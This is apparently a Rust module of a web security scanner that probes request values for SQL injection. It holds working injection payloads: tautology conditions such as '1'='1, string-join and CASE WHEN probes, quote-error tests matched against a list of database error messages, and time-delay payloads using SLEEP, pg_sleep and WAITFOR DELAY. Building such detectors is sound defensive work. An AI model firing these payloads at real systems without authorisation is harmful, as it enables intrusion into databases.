//! Whether a value becomes part of an SQL query (CWE-89, OWASP A03:2021).
//!
//! For each value of each request, the first that shows it ends the search:
//! 1. Reads: a condition is added in the forms a query may have it, true and false ([`condition`]: control, twin and eight rounds).
//! 2. All: the value in two parts that only a database joins (`la'||'mp`), or as a sum that only it adds; the answer must be the
//!    original one, and must not be with a broken sign or another sum. What is written is the original value: writes are safe.
//! 3. Names of columns: a `CASE` that gives the order of the original value or none, exact to the byte.
//! 4. All: one quotation mark gives an error of a database, two do not, one does again. That is firm.
//! 5. All: a wait by the database's own function, as in `command-injection`. That is firm. No heavy queries.
//!
//! A condition that is true for every row is never sent to a write.

use gabion_model::outbound::BoxFuture;

use super::condition::{Grammar, condition};
use super::waiting::{Waits, waits};
use super::{Attack, Phase, shuffled};
use crate::aim::{Aim, Sent, aims};
use crate::compare::Profile;
use crate::field::Field;
use crate::verdict::{Proof, Verdict};
use crate::wire::{Answer, WireError};

pub(super) struct SqlInjection;

const ID: &str = "sql-injection";

impl Attack for SqlInjection {
    fn id(&self) -> &'static str {
        ID
    }

    fn phase(&self) -> Phase {
        Phase::Write
    }

    fn run<'a>(&'a self, field: &'a Field) -> BoxFuture<'a, Result<(), WireError>> {
        Box::pin(run(field))
    }
}

async fn run(field: &Field) -> Result<(), WireError> {
    let aims = aims(field);
    let mut tested = 0_usize;
    for aim in aims.iter().filter(|aim| aim.is_value()) {
        tested = tested.saturating_add(1);
        attack(aim).await?;
    }
    if tested == 0 {
        field.not_tested(ID, "no operation takes a value");
    }
    Ok(())
}

const SQL: Grammar = Grammar {
    who: "the database",
    and: "AND",
    or: "OR",
    broken_and: "XAND",
    broken_or: "XOR_",
    compare: |one, two, truth| {
        format!("{one}*{two}={}", one.saturating_mul(two).saturating_add(u32::from(!truth)))
    },
    forms: &[
        ("'", "'1'='1"),
        ("", "1=1"),
        ("%'", "'%'='"),
        ("\"", "\"1\"=\"1"),
        ("')", "('1'='1"),
        ("%')", "('%'='"),
        (")", "(1=1"),
        ("'))", "(('1'='1"),
    ],
};

async fn attack(aim: &Aim<'_>) -> Result<(), WireError> {
    if aim.is_typed().await? {
        aim.field.say(aim.outcome(ID, Verdict::Passed, "only numbers are taken"));
        return Ok(());
    }
    let base = aim.profile().await?;
    if let Some(base) = &base {
        if aim.is_safe() && condition(aim, ID, base, &SQL).await? {
            return Ok(());
        }
        if joined(aim, base).await? || (aim.is_safe() && ordered(aim).await?) {
            return Ok(());
        }
    }
    if errors(aim).await? || sleeps(aim).await? {
        return Ok(());
    }
    let (verdict, says) = match base {
        Some(_) => (Verdict::Passed, "nothing that was put into it was read as SQL"),
        None => (Verdict::Inconclusive, "the original value gets another answer each time"),
    };
    aim.field.say(aim.outcome(ID, verdict, says));
    Ok(())
}

/// How databases join texts: what stands between, and the same broken.
const JOINS: &[(&str, &str)] = &[("'||'", "'|!|'"), ("' '", "' ! '"), ("'+'", "'+!+'")];

/// The value in two parts, or as a sum.
async fn joined(aim: &Aim<'_>, base: &Profile) -> Result<bool, WireError> {
    if !aim.works {
        return Ok(false);
    }
    if let Ok(number) = aim.original.parse::<u32>() {
        let sum = |count: u32, function: &str, off: u32| {
            let more = number.saturating_add(count).saturating_add(off);
            format!("{more}-{function}('{}')", "x".repeat(usize::try_from(count).unwrap_or(1)))
        };
        let count = || aim.field.number(5).saturating_add(3);
        for (function, broken) in [("LENGTH", "LENGHT"), ("LEN", "LEEN")] {
            let texts = |truth: bool| sum(count(), function, u32::from(!truth));
            if follows(aim, base, &texts, &sum(count(), broken, 0)).await? {
                return Ok(true);
            }
        }
        return Ok(false);
    }
    let letters: Vec<char> = aim.original.chars().collect();
    let cuts = u32::try_from(letters.len().saturating_sub(1)).unwrap_or(0);
    if cuts == 0 || !letters.iter().all(|letter| letter.is_alphanumeric() || " -_.@".contains(*letter)) {
        return Ok(false);
    }
    for (join, broken) in JOINS {
        let cut = |between: &str, false_letter: &str| {
            let at = usize::try_from(aim.field.number(cuts)).unwrap_or(0).saturating_add(1);
            let part = |letters: &[char]| letters.iter().collect::<String>();
            let (first, last) = letters.split_at_checked(at).unwrap_or((&letters, &[]));
            format!("{}{between}{false_letter}{}", part(first), part(last))
        };
        let texts = |truth: bool| cut(join, if truth { "" } else { "q" });
        if follows(aim, base, &texts, &cut(broken, "")).await? {
            return Ok(true);
        }
    }
    Ok(false)
}

const ROUNDS: usize = 6;

/// Whether true texts give the original answer, false ones and the twin another; in all rounds.
async fn follows(
    aim: &Aim<'_>,
    base: &Profile,
    text: &(dyn Fn(bool) -> String + Sync),
    broken: &str,
) -> Result<bool, WireError> {
    let Some(first) = aim.text(&text(true)).await? else { return Ok(false) };
    if !aim.fits(base, &first) {
        return Ok(false);
    }
    let Some(twin) = aim.text(broken).await? else { return Ok(false) };
    if aim.fits(base, &twin) {
        return Ok(false);
    }
    let mut lie = None;
    for truth in shuffled(aim.field, ROUNDS) {
        let Some(sent) = aim.text(&text(truth)).await? else { return Ok(false) };
        if aim.fits(base, &sent) != truth {
            return Ok(false);
        }
        if !truth {
            lie = Some(sent);
        }
    }
    let says = format!("the database computed the value of {} again: {ROUNDS} of {ROUNDS} times", aim.point);
    let evidence =
        format!("`{}` gives the answer of `{}`, and `{broken}` does not", first.text, aim.original);
    let mut proof = Proof::new(aim.evidence(&first), evidence).twin(aim.evidence(&twin));
    if let Some(lie) = lie {
        proof = proof.shown(aim.evidence(&lie));
    }
    aim.field.say(aim.outcome(ID, Verdict::Proven, says).proof(proof));
    Ok(true)
}

/// A name of a column, in an order: the answer is compared as it stands, for an order changes no word.
async fn ordered(aim: &Aim<'_>) -> Result<bool, WireError> {
    let name = &aim.original;
    let is_name = name.chars().all(|letter| letter.is_alphanumeric() || letter == '_' || letter == '.')
        && name.chars().next().is_some_and(char::is_alphabetic);
    if !is_name || !aim.works {
        return Ok(false);
    }
    let Some(base) = aim.text(name).await? else { return Ok(false) };
    for case in CASES {
        if follows_order(aim, &base, *case).await? {
            return Ok(true);
        }
    }
    Ok(false)
}

/// A name that stands for an order, or none; or a number's own order, or the other way round.
const CASES: &[fn(&str, &str, &str) -> String] = &[
    |then, name, condition| format!("CASE WHEN ({condition}) {then} {name} END"),
    |then, name, condition| format!("(CASE WHEN ({condition}) {then} 1 ELSE -1 END)*{name}"),
];

async fn follows_order(
    aim: &Aim<'_>,
    base: &Sent,
    case: fn(&str, &str, &str) -> String,
) -> Result<bool, WireError> {
    let text = |then: &str, truth: bool| {
        let number = || aim.field.number(900).saturating_add(100);
        case(then, &aim.original, &(SQL.compare)(number(), number(), truth))
    };
    let same = |sent: &Sent| sent.answer.status == base.answer.status && sent.answer.body == base.answer.body;
    let Some(first) = aim.text(&text("THEN", true)).await? else { return Ok(false) };
    if !same(&first) {
        return Ok(false);
    }
    let Some(twin) = aim.text(&text("XTHEN", true)).await? else { return Ok(false) };
    if same(&twin) {
        return Ok(false);
    }
    for truth in shuffled(aim.field, ROUNDS) {
        let Some(sent) = aim.text(&text("THEN", truth)).await? else { return Ok(false) };
        if same(&sent) != truth {
            return Ok(false);
        }
    }
    let says = format!("the order follows a condition in {}: {ROUNDS} of {ROUNDS} times", aim.point);
    let evidence = format!("`{}` gives the order of `{}`", first.text, aim.original);
    let proof = Proof::new(aim.evidence(&first), evidence).twin(aim.evidence(&twin));
    aim.field.say(aim.outcome(ID, Verdict::Proven, says).proof(proof));
    Ok(true)
}

/// One quotation mark gives an error of a database, two do not, one does again.
async fn errors(aim: &Aim<'_>) -> Result<bool, WireError> {
    for mark in ["'", "\""] {
        let text = |count: usize| format!("{}{}", aim.original, mark.repeat(count));
        let Some(one) = aim.text(&text(1)).await? else { continue };
        let Some(words) = database_error(&one.answer) else { continue };
        let Some(two) = aim.text(&text(2)).await? else { continue };
        let Some(three) = aim.text(&text(3)).await? else { continue };
        let Some(plain) = aim.text(&aim.original).await? else { continue };
        let quiet = database_error(&two.answer).is_none() && database_error(&plain.answer).is_none();
        if !quiet || database_error(&three.answer).is_none() {
            continue;
        }
        let says = format!("a quotation mark in {} makes the database fail on the query", aim.point);
        let evidence = format!("the answer to `{}` has `{words}`, that to `{}` has not", one.text, two.text);
        let proof =
            Proof::new(aim.evidence(&one), evidence).twin(aim.evidence(&two)).shown(aim.evidence(&three));
        aim.field.say(aim.outcome(ID, Verdict::Firm, says).proof(proof));
        return Ok(true);
    }
    Ok(false)
}

/// What databases say of a query they cannot read.
pub(super) fn database_error(answer: &Answer) -> Option<&'static str> {
    DATABASE_WORDS.iter().find(|words| answer.has(words)).copied()
}

const DATABASE_WORDS: &[&str] = &[
    "You have an error in your SQL syntax",
    "check the manual that corresponds to your",
    "ER_PARSE_ERROR",
    "unterminated quoted string",
    "unterminated quoted identifier",
    "syntax error at or near",
    "Unclosed quotation mark",
    "Incorrect syntax near",
    "quoted string not properly terminated",
    "ORA-01756",
    "ORA-00933",
    "unrecognized token:",
    "SQLITE_ERROR",
    "SQLSTATE[42",
    "SQLSyntaxErrorException",
    "near \"'\": syntax error",
    "incomplete input",
];

const WAITS: &[(bool, Waits)] = &[
    (
        true,
        Waits {
            attack: |value, seconds| format!("{value}'+(SELECT SLEEP({seconds}))+'"),
            twin: |value, seconds| format!("{value}'+(SELECT SLEPP({seconds}))+'"),
            who: "the database",
        },
    ),
    (
        true,
        Waits {
            attack: |value, seconds| format!("{value}'||(SELECT '' FROM pg_sleep({seconds}))||'"),
            twin: |value, seconds| format!("{value}'||(SELECT '' FROM pg_slepp({seconds}))||'"),
            who: "the database",
        },
    ),
    (
        true,
        Waits {
            attack: |value, seconds| format!("{value}'; WAITFOR DELAY '0:0:{seconds}'--"),
            twin: |value, seconds| format!("{value}'; WAITFER DELAY '0:0:{seconds}'--"),
            who: "the database",
        },
    ),
    (
        false,
        Waits {
            attack: |value, seconds| format!("{value}+(SELECT SLEEP({seconds}))"),
            twin: |value, seconds| format!("{value}+(SELECT SLEPP({seconds}))"),
            who: "the database",
        },
    ),
    (
        false,
        Waits {
            attack: |value, seconds| format!("{value}+(SELECT 0 FROM pg_sleep({seconds}))"),
            twin: |value, seconds| format!("{value}+(SELECT 0 FROM pg_slepp({seconds}))"),
            who: "the database",
        },
    ),
    (
        false,
        Waits {
            attack: |value, seconds| format!("{value}; WAITFOR DELAY '0:0:{seconds}'--"),
            twin: |value, seconds| format!("{value}; WAITFER DELAY '0:0:{seconds}'--"),
            who: "the database",
        },
    ),
];

async fn sleeps(aim: &Aim<'_>) -> Result<bool, WireError> {
    let is_text = aim.original.parse::<f64>().is_err();
    for (_, form) in WAITS.iter().filter(|(text, _)| *text == is_text) {
        if waits(aim, ID, form).await? {
            return Ok(true);
        }
    }
    Ok(false)
}
